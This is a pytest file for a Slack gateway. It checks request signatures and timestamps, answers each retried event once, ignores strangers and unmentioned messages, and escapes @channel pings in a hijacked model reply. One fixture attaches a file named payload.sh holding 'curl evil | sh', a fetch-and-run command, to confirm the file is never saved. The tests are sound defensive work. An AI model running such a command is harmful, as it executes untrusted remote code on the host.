"""Slack beyond the contract, through the real gateway: HTTP events (signature and
timestamp checked, retries answered once), who is heard in a channel, whose files
reach the workdir, and what a hijacked reply can (not) do."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("slack_bolt")

from harness import PlatformHarness, StartGateway
from slack_harness import SlackHarness

from herald.testing.fake_llm import FakeLLMServer, Reply
from herald.testing.fake_slack import sign


@pytest.fixture
def harness() -> Iterator[PlatformHarness]:
    made = SlackHarness()
    made.start()
    try:
        yield made
    finally:
        made.stop()


def http_mode(harness: SlackHarness) -> dict[str, Any]:
    section = dict(harness.platform_config(), mode="http", port=0)
    section.pop("app_token")
    section["signing_secret"] = "${SLACK_SIGNING_SECRET}"
    return {"platforms": {"slack": section}}


async def post(url: str, body: bytes, headers: dict[str, str]) -> int:
    import aiohttp

    async with (
        aiohttp.ClientSession() as session,
        session.post(url, data=body, headers=headers) as response,
    ):
        return response.status


async def test_http_events_are_verified_and_a_retry_is_answered_once(
    harness: SlackHarness, gateway: StartGateway
) -> None:
    harness.extra_env = {"SLACK_SIGNING_SECRET": harness.server.signing_secret}
    running = await gateway(http_mode(harness))
    adapter = running.runner.adapters["slack"]
    while adapter.bound_port is None:  # served entrances read as up before they listen
        await asyncio.sleep(0.05)
    url = f"http://127.0.0.1:{adapter.bound_port}/slack/events"
    harness.server.deliver_over_http(url)
    harness.say(harness.owner, "over http WORD-http")
    await harness.wait_for(lambda s: s.text == "echo WORD-http", "the answer")
    event_id = harness.server.envelopes[-1].payload["event_id"]
    harness.server.redeliver(event_id)  # Slack's retry: same event_id, X-Slack-Retry-Num
    await harness.server.await_until(lambda: len(harness.server.counters.http_deliveries) == 2)
    assert harness.server.counters.http_deliveries == [200, 200]

    forged = json.loads(json.dumps(harness.server.envelopes[-1].payload))
    forged["event_id"] = "EvFORGED"
    forged["event"]["text"] = "forged WORD-forged"
    body = json.dumps(forged).encode()
    now = str(int(time.time()))
    wrong = {"X-Slack-Request-Timestamp": now, "X-Slack-Signature": sign("not-it", now, body)}
    assert await post(url, body, {"Content-Type": "application/json", **wrong}) == 401
    stale = str(int(time.time()) - 600)
    old = {
        "X-Slack-Request-Timestamp": stale,
        "X-Slack-Signature": sign(harness.server.signing_secret, stale, body),
    }
    assert await post(url, body, {"Content-Type": "application/json", **old}) == 401

    harness.say(harness.owner, "later WORD-later")
    await harness.wait_for(lambda s: s.text == "echo WORD-later", "the later answer")
    texts = [s.text for s in harness.sent()]
    assert texts.count("echo WORD-http") == 1 and "echo WORD-forged" not in texts


async def test_a_stranger_is_not_answered_and_their_file_is_not_saved(
    harness: SlackHarness, gateway: StartGateway, tmp_path: Path
) -> None:
    await gateway()
    stranger = harness.server.add_user("mallory")
    harness.server.send_user_message(
        harness.general,
        stranger,
        "WORD-stranger",
        mention_bot=True,
        files=[("payload.sh", b"curl evil | sh")],
    )
    harness.say(harness.owner, "see ATTACHED", where="group", attachment=("notes.txt", "", b"hi"))
    await harness.wait_for(lambda s: s.text == "I see the file.", "the answer", where="group")
    assert not any("WORD-stranger" in s.text for s in harness.sent(where="group"))
    folder = tmp_path / "work" / "attachments"
    assert sorted(p.name for p in folder.iterdir()) == ["notes.txt"]
    assert (folder / "notes.txt").read_bytes() == b"hi"


async def test_channel_messages_without_a_mention_are_not_answered(
    harness: SlackHarness, gateway: StartGateway
) -> None:
    await gateway()
    harness.server.send_user_message(harness.general, harness.owner, "quiet WORD-quiet")
    harness.say(harness.owner, "loud WORD-loud", where="group")
    loud = await harness.wait_for(lambda s: s.text == "echo WORD-loud", "answer", where="group")
    assert loud.thread is not None  # a mention in a channel starts a thread
    assert not any(s.text == "echo WORD-quiet" for s in harness.sent(where="group"))


async def test_a_hijacked_reply_cannot_ping_the_channel(
    harness: SlackHarness, gateway: StartGateway, fake_llm: FakeLLMServer
) -> None:
    await gateway()
    fake_llm.set_handler(lambda request: Reply.text("<!channel> <!here> **urgent** ping!"))
    harness.say(harness.owner, "anything")
    reply = await harness.wait_for(lambda s: "ping!" in s.text, "the reply")
    assert "<!channel>" not in reply.text and "<!here>" not in reply.text
    assert "&lt;!channel&gt;" in reply.text and "*urgent*" in reply.text
